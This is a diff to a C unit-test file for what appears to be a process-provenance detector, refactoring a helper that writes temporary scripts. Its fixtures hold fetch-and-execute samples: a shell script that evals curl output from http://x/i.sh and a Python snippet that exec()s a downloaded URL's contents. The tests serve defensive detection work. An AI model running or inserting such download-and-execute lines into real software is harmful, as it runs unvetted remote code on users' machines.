@@ -347,6 +347,19 @@ static void test_substitution_in_place(void **state)
 	assert_int_equal(info_of(w, shell).script_prov, 0);
 }
 
+/* A new temporary directory's file name holding text; its path in path. */
+static void temp_script(char *dir, char *path, size_t size, const char *name, const char *text)
+{
+	FILE *f;
+
+	assert_non_null(mkdtemp(dir));
+	snprintf(path, size, "%s/%s", dir, name);
+	f = fopen(path, "w");
+	assert_non_null(f);
+	fputs(text, f);
+	assert_int_equal(fclose(f), 0);
+}
+
 /*
  * A shell that evaluates in itself what it captured: in its -c program or
  * its script file, only when the text names the program that wrote the
@@ -357,7 +370,6 @@ static void test_capture_evaluated(void **state)
 	struct world *w = *state;
 	struct bw_proc *shell = job_shell(w), *sh, *curl, *agent;
 	char dir[] = "/tmp/bw-prov-XXXXXX", path[64];
-	FILE *f;
 
 	sh = fork_of(w, shell);
 	exec_as(w, sh, "/usr/bin/bash",
@@ -375,12 +387,8 @@ static void test_capture_evaluated(void **state)
 	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/v"), 0, 61, NULL);
 	assert_int_equal(info_of(w, sh).script_prov, 0);
 	/* a script file, read once the capture is known */
-	assert_non_null(mkdtemp(dir));
-	snprintf(path, sizeof(path), "%s/setup.sh", dir);
-	f = fopen(path, "w");
-	assert_non_null(f);
-	fputs("#!/bin/sh\nfetch() { curl -fsSL \"$1\"; }\neval \"$(fetch http://x/i.sh)\"\n", f);
-	fclose(f);
+	temp_script(dir, path, sizeof(path), "setup.sh",
+		    "#!/bin/sh\nfetch() { curl -fsSL \"$1\"; }\neval \"$(fetch http://x/i.sh)\"\n");
 	sh = fork_of(w, shell);
 	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", path), 0, 0, NULL);
 	curl = fork_of(w, sh);
@@ -413,14 +421,9 @@ static void test_python_text_at_connect(void **state)
 	struct world *w = *state;
 	struct bw_proc *shell = job_shell(w), *sh, *py;
 	char dir[] = "/tmp/bw-prov-py-XXXXXX", path[64];
-	FILE *f;
 
-	assert_non_null(mkdtemp(dir));
-	snprintf(path, sizeof(path), "%s/helper.py", dir);
-	f = fopen(path, "w");
-	assert_non_null(f);
-	fputs("import urllib.request as u\nr = u.urlopen(URL)\nexec(r.read())\n", f);
-	fclose(f);
+	temp_script(dir, path, sizeof(path), "helper.py",
+		    "import urllib.request as u\nr = u.urlopen(URL)\nexec(r.read())\n");
 	py = fork_of(w, shell);
 	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", path), 0, 0, NULL);
 	assert_int_equal(info_of(w, py).script_prov, 0);
